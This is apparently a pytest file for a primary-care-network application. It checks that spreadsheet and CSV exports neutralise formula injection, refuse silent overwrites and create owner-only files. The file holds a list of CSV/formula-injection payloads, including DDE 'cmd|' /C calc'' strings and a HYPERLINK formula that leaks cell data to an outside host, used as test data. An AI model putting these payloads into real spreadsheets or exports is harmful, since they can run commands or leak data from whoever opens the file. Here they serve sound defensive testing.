"""Issue 14, items 9-11: no export carries a formula (or crashes on text XML cannot
hold), replaces a file unasked, or is readable by other users.

Item 9 poisons every free-text field that reaches an export (practice, PCN and
indicator names, people, the directory, notes, plans, audit summaries) with strings
that start with each formula trigger, runs every exporter, reads each file back and
checks that no xlsx cell is a formula and no CSV field starts with ``= + - @``, tab
or CR, and that the hostile text did reach the file (so the test can fail).
"""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from pcn_assistant.services import safe_cells
from pcn_assistant.services.safe_files import OutputExists, is_private, refuse_overwrite
from pcn_assistant.services.security import LOCAL_ADMIN
from pcn_assistant.store.models import Base

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Free text a person or a feed can put in: (table, column).
FREE_TEXT = {
    "pcn": ("name",),
    "practice": ("name",),
    "indicator": ("name", "description", "source", "unit"),
    "patient": ("given_name", "family_name", "phone", "email"),
    "app_user": ("display_name",),
    "audit_event": ("summary",),
    "directory_organisation": ("name", "description", "email", "website", "phone"),
    "directory_service": ("name", "description", "url", "email", "fees", "accreditations", "eligibility",
                          "service_area", "alert", "referral_method"),
    "directory_location": ("name", "description", "address_1", "city", "region"),
    "directory_contact": ("name", "title", "email", "phone", "phone_description"),
    "directory_cost_option": ("option", "amount_description"),
    "directory_schedule": ("description", "notes"),
    "episode": ("referrer_name", "referral_note", "close_note"),
    "episode_contact": ("note",),
    "care_plan": ("what_matters", "strengths", "needs"),
    "care_plan_goal": ("description",),
    "care_plan_action": ("description",),
    "caseload_task": ("title",),
    "person_flag": ("description",),
    "referral": ("note", "outcome_note"),
    "coding_entry": ("term",),
    "risk_assessment": ("pinned_reason", "reasons"),
}


def _poison(db) -> None:  # noqa: ANN001
    tables = Base.metadata.tables
    with db.transaction() as session:
        for index, (table, columns) in enumerate(FREE_TEXT.items()):
            # \x01 and \x0b (a vertical tab pasted from Word) are characters XML cannot hold.
            values = {column: HOSTILE[(index + offset) % len(HOSTILE)] + f" \x01\x0b{table}.{column}"
                      for offset, column in enumerate(columns)}
            session.execute(update(tables[table]).values(**values))


def _xlsx_cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _check_xlsx(path: Path) -> int:
    """No formula cell; returns how many cells hold hostile text (as text)."""
    cells = _xlsx_cells(path)
    formulas = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert formulas == [], f"{path.name}: formula cells {formulas[:5]}"
    # XML turns a leading CR into LF on reading, so "\r=1+1" comes back as "\n=1+1".
    return sum(1 for c in cells if isinstance(c.value, str) and c.value.lstrip("\n").startswith(TRIGGERS))


def _check_csv(path: Path, encoding: str = "utf-8") -> int:
    """No field starts with a trigger; returns how many fields carry neutralised hostile text."""
    with path.open(newline="", encoding=encoding) as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    bad = [f for f in fields if f.startswith(TRIGGERS)]
    assert bad == [], f"{path.name}: unescaped fields {bad[:5]}"
    return sum(1 for f in fields if f.startswith("'") and f[1:].startswith(TRIGGERS))


def test_no_export_carries_a_formula(demo_db, tmp_path):
    from pcn_assistant.services.audit_trail import AuditFilter, export_events
    from pcn_assistant.services.caseload.export import export_caseload
    from pcn_assistant.services.dashboard import export_dashboard
    from pcn_assistant.services.directory.oruk_export import (
        CSV_FORMAT,
        JSON_FORMAT,
        export_directory,
    )
    from pcn_assistant.services.patient_import.history import save_problems_csv
    from pcn_assistant.services.patient_import.validate import RowError
    from pcn_assistant.services.referrals.coding import export_worklist
    from pcn_assistant.services.referrals.returns import export_returns
    from pcn_assistant.services.risk import export_risk_list
    from pcn_assistant.services.variation import compute_variation, export_variation
    from pcn_assistant.store.models import Practice

    _poison(demo_db)
    actor = LOCAL_ADMIN
    hostile_cells: dict[str, int] = {}

    export_variation(demo_db, actor, tmp_path / "variation.xlsx")
    hostile_cells["variation"] = _check_xlsx(tmp_path / "variation.xlsx")
    export_dashboard(demo_db, actor, tmp_path / "dashboard.xlsx")
    hostile_cells["dashboard"] = _check_xlsx(tmp_path / "dashboard.xlsx")
    export_caseload(demo_db, actor, tmp_path / "caseload.xlsx")
    hostile_cells["caseload"] = _check_xlsx(tmp_path / "caseload.xlsx")
    with demo_db.session() as session:
        practice = session.execute(select(Practice.ods_code).order_by(Practice.ods_code)).scalars().first()
    export_worklist(demo_db, actor, practice, tmp_path / "coding.xlsx", include_coded=True)
    hostile_cells["coding"] = _check_xlsx(tmp_path / "coding.xlsx")
    export_risk_list(demo_db, actor, tmp_path / "risk.xlsx")
    hostile_cells["risk"] = _check_xlsx(tmp_path / "risk.xlsx")
    export_risk_list(demo_db, actor, tmp_path / "risk.csv")
    hostile_cells["risk csv"] = _check_csv(tmp_path / "risk.csv")
    written = export_returns(demo_db, actor, tmp_path / "returns")
    assert written
    hostile_cells["returns"] = sum(_check_xlsx(Path(w.path)) for w in written)
    export_events(demo_db, actor, AuditFilter(), tmp_path / "audit.xlsx")
    hostile_cells["audit"] = _check_xlsx(tmp_path / "audit.xlsx")
    export_events(demo_db, actor, AuditFilter(), tmp_path / "audit.csv")
    hostile_cells["audit csv"] = _check_csv(tmp_path / "audit.csv", "utf-8-sig")
    export_directory(demo_db, actor, tmp_path / "oruk", CSV_FORMAT)
    hostile_cells["oruk csv"] = sum(_check_csv(p) for p in (tmp_path / "oruk").glob("*.csv"))
    export_directory(demo_db, actor, tmp_path / "directory.json", JSON_FORMAT)
    services = json.loads((tmp_path / "directory.json").read_text(encoding="utf-8"))
    assert services[0]["name"].startswith(TRIGGERS)  # JSON carries the text as it is: no spreadsheet reads it
    save_problems_csv(demo_db, actor, [RowError(2, "family_name", HOSTILE[0], HOSTILE[2])], tmp_path / "problems.csv")
    hostile_cells["problems csv"] = _check_csv(tmp_path / "problems.csv", "utf-8-sig")
    compute_variation(demo_db, actor).frame.pipe(safe_cells.csv_frame).to_csv(tmp_path / "compute.csv", index=False)
    _check_csv(tmp_path / "compute.csv")

    # The hostile text reached every file (as text), so the checks above had something to catch.
    missing = [name for name, count in hostile_cells.items() if count == 0]
    assert missing == [], f"no hostile text reached {missing}: the poisoning missed these exports"


def test_variation_compute_cli_csv_is_neutralised(tmp_path):
    """``variation compute --indicators FILE`` straight from a hostile indicators file."""
    source = tmp_path / "indicators.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["practice_code", "practice_name", "indicator_code", "period", "numerator", "denominator"])
        for code, name in (("Y90001", HOSTILE[0]), ("Y90002", HOSTILE[3])):
            writer.writerow([code, name, "flu_65_plus", "2026-Q1", 40, 1000])
    out = tmp_path / "compute.csv"
    run = _cli("variation", "compute", "--indicators", str(source), "--out", str(out), data=tmp_path)
    assert run.returncode == 0, run.stderr
    assert _check_csv(out) == 0  # the tidy table has codes, not names: nothing hostile, nothing live
    workbook = tmp_path / "variation.xlsx"
    run = _cli("variation", "export", "--indicators", str(source), "--out", str(workbook), data=tmp_path)
    assert run.returncode == 0, run.stderr
    assert _check_xlsx(workbook) >= 2  # both hostile practice names are there, as text


def test_safe_cell_writer_rules(tmp_path):
    assert safe_cells.csv_field("=1+1") == "'=1+1"
    assert safe_cells.csv_field("\r=1") == "'\r=1"
    assert safe_cells.csv_field("-3") == "'-3"  # text that looks like a sum is still text
    assert safe_cells.csv_field(-3) == -3  # a number stays a number
    assert safe_cells.csv_field("Harbour View") == "Harbour View"
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "=1+1"  # written the plain openpyxl way, as other code might
    safe_cells.put(sheet, 2, 1, "=2+2\x01")  # and through the writer, with a character XML cannot hold
    safe_cells.save_workbook(book, tmp_path / "sealed.xlsx")
    cells = {c.coordinate: c for c in _xlsx_cells(tmp_path / "sealed.xlsx") if c.value is not None}
    assert (cells["A1"].value, cells["A1"].data_type) == ("=1+1", "s")
    assert (cells["A2"].value, cells["A2"].data_type) == ("=2+2", "s")


# Item 10: no silent overwrite.

def _cli(*argv: str, data: Path, env: dict | None = None, umask: int | None = None) -> subprocess.CompletedProcess:
    environment = {key: value for key, value in os.environ.items() if key != "PCN_ASSISTANT_PASSWORD"}
    environment.update({"PCN_ASSISTANT_DATA_DIR": str(data), "QT_QPA_PLATFORM": "offscreen", **(env or {})})
    return subprocess.run([sys.executable, "-m", "pcn_assistant", *argv], capture_output=True, text=True,
                          env=environment, timeout=300, check=False,
                          preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)  # noqa: PLW1509


def test_service_refuses_an_existing_target(tmp_path):
    target = tmp_path / "out.xlsx"
    refuse_overwrite(target)  # nothing there: fine
    target.write_bytes(b"precious")
    with pytest.raises(OutputExists, match="already exists: nothing was written"):
        refuse_overwrite(target)
    refuse_overwrite(target, force=True)
    assert OutputExists.exit_code == 3


def test_exports_refuse_to_overwrite_without_force(db, tmp_path):
    """Returns workbooks and the ORUK datapackage (folder exports) refuse in the service,
    before anything is written, on SQLite and PostgreSQL."""
    from referrals_world import WORKER, build_world

    from pcn_assistant.services.directory.oruk_export import CSV_FORMAT, export_directory
    from pcn_assistant.services.referrals.lifecycle import NewReferral, create_referrals

    world = build_world(db)
    create_referrals(db, WORKER, world.episodes[0], NewReferral([world.services["walk"]], "befriending",
                                                                consent_given=True))
    first = export_returns_paths(db, tmp_path / "returns")
    assert first
    Path(first[0]).write_bytes(b"the provider's edits")
    with pytest.raises(OutputExists):
        export_returns_paths(db, tmp_path / "returns")
    assert Path(first[0]).read_bytes() == b"the provider's edits"
    assert export_returns_paths(db, tmp_path / "returns", force=True) == first
    assert Path(first[0]).read_bytes() != b"the provider's edits"

    folder = tmp_path / "oruk"
    folder.mkdir()
    (folder / "services.csv").write_text("mine", encoding="utf-8")
    with pytest.raises(OutputExists, match="services.csv"):
        export_directory(db, WORKER, folder, CSV_FORMAT)
    assert sorted(p.name for p in folder.iterdir()) == ["services.csv"]  # nothing else was written
    export_directory(db, WORKER, folder, CSV_FORMAT, force=True)
    assert (folder / "services.csv").read_text(encoding="utf-8") != "mine"


def export_returns_paths(db, folder: Path, force: bool = False) -> list[str]:  # noqa: ANN001
    from referrals_world import WORKER

    from pcn_assistant.services.referrals.returns import export_returns

    return [w.path for w in export_returns(db, WORKER, folder, force=force)]


def test_cli_refuses_overwrite_and_files_are_owner_only(tmp_path):
    """Item 10 on the CLI (exit 3, file untouched; --force replaces) and item 11: with a
    permissive umask the database, its backups, an export and the log are still 0600
    and the folders 0700."""
    data = tmp_path / "data"
    database = tmp_path / "private" / "pcn.db"
    database.parent.mkdir()
    run = _cli("demo", "--out", str(database), "--patients", "300", data=data, umask=0o022)
    assert run.returncode == 0, run.stderr
    out = tmp_path / "trail.csv"
    out.write_text("keep me", encoding="utf-8")
    env = {"PCN_ASSISTANT_PASSWORD": "lighthouse-demo-2026"}
    run = _cli("--database", str(database), "--user", "admin", "audit-trail", "export", "--out", str(out),
               data=data, env=env, umask=0o022)
    assert run.returncode == 3, run.stderr
    assert "already exists" in run.stderr and "--force" in run.stderr and len(run.stderr.splitlines()) == 1
    assert out.read_text(encoding="utf-8") == "keep me"
    run = _cli("--database", str(database), "--user", "admin", "audit-trail", "export", "--out", str(out),
               "--force", data=data, env=env, umask=0o022)
    assert run.returncode == 0, run.stderr
    assert out.read_text(encoding="utf-8-sig").startswith("Id,") or "keep me" not in out.read_text("utf-8-sig")
    backup = tmp_path / "copy.db"
    run = _cli("--database", str(database), "--user", "admin", "backup", "--out", str(backup),
               data=data, env=env, umask=0o022)
    assert run.returncode == 0, run.stderr
    if os.name != "posix":
        return
    made = [database, out, backup, *data.rglob("*.log")]
    made += [p for p in database.parent.glob("pcn-backups/*") if p.is_file()]
    assert len(made) >= 4
    loose = {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in made if not is_private(p)}
    assert loose == {}
    folders = [p for p in [*data.rglob("*"), *database.parent.rglob("*")] if p.is_dir()]
    assert folders and all(stat.S_IMODE(p.stat().st_mode) == 0o700 for p in folders), \
        {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in folders}


@pytest.mark.parametrize("answer", ["No", "Yes"])
def test_gui_asks_before_replacing_a_datapackage(qtbot, sqlite_db, tmp_path, monkeypatch, answer):
    """The directory screen's CSV export into a folder that already has one: the user is
    asked; No leaves the files alone, Yes replaces them."""
    from PySide6.QtWidgets import QMessageBox
    from referrals_world import WORKER, build_world

    from pcn_assistant.gui.areas.directory import DirectoryArea
    from pcn_assistant.gui.context import AppContext
    from pcn_assistant.services.directory.oruk_export import CSV_FORMAT

    build_world(sqlite_db)
    folder = tmp_path / "oruk"
    folder.mkdir()
    (folder / "services.csv").write_text("mine", encoding="utf-8")
    asked: list[str] = []

    def question(parent, title, text, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        asked.append(text)
        return getattr(QMessageBox.StandardButton, answer)

    monkeypatch.setattr(QMessageBox, "question", question)
    told: list[str] = []
    monkeypatch.setattr(QMessageBox, "information", lambda *a, **k: told.append(a[2]) or QMessageBox.StandardButton.Ok)
    monkeypatch.setattr(QMessageBox, "warning", lambda *a, **k: pytest.fail(f"warning shown: {a[2]}"))
    area = DirectoryArea(AppContext(db=sqlite_db, actor=WORKER))
    qtbot.addWidget(area)
    area.export(CSV_FORMAT, path=str(folder))
    qtbot.waitUntil(lambda: bool(asked), timeout=30_000)
    assert "services.csv" in asked[0] and "--force" not in asked[0]
    if answer == "No":
        qtbot.wait(200)
        assert (folder / "services.csv").read_text(encoding="utf-8") == "mine"
        assert sorted(p.name for p in folder.iterdir()) == ["services.csv"]
        assert told == []
    else:
        qtbot.waitUntil(lambda: bool(told), timeout=30_000)  # the retry finished and said so
        assert (folder / "datapackage.json").exists() and "services written" in told[0]
        assert (folder / "services.csv").read_text(encoding="utf-8") != "mine"


def test_hostile_directory_round_trips_through_the_oruk_csv(db, tmp_path):
    """The CSV carries "'=..." (safe in a spreadsheet) and our importer reads it back as
    "=...", so a hostile-looking name or a "+44" phone survives export and re-import."""
    from referrals_world import WORKER, build_world

    from pcn_assistant.services.directory.oruk_export import CSV_FORMAT, export_directory
    from pcn_assistant.services.directory.oruk_import import import_directory
    from pcn_assistant.store.models import DirectoryService

    build_world(db)
    with db.transaction() as session:
        session.execute(update(DirectoryService).values(name=HOSTILE[0], description=HOSTILE[1]))
        session.execute(update(Base.metadata.tables["directory_contact"]).values(phone="+44 1632 960001"))
    export_directory(db, WORKER, tmp_path / "oruk", CSV_FORMAT)
    assert _check_csv(tmp_path / "oruk" / "services.csv") >= 2
    result = import_directory(db, WORKER, tmp_path / "oruk")
    assert result.problems == [] and not result.changed, [(c.name, c.fields) for c in result.updated]
    with db.session() as session:
        assert set(session.execute(select(DirectoryService.name)).scalars()) == {HOSTILE[0]}


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_a_new_database_is_owner_only_even_with_a_loose_umask(tmp_path):
    """Used as a library (no CLI umask), a database file the app creates is still 0600."""
    from pcn_assistant.services.database import open_database

    old = os.umask(0o022)
    try:
        db = open_database(tmp_path / "fresh.db")
        with db.session() as session:  # touch it, so the -wal file exists too
            session.execute(select(1))
        db.dispose()
    finally:
        os.umask(old)
    made = [p for p in tmp_path.iterdir() if p.name.startswith("fresh.db")]
    assert made and all(is_private(p) for p in made), {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in made}
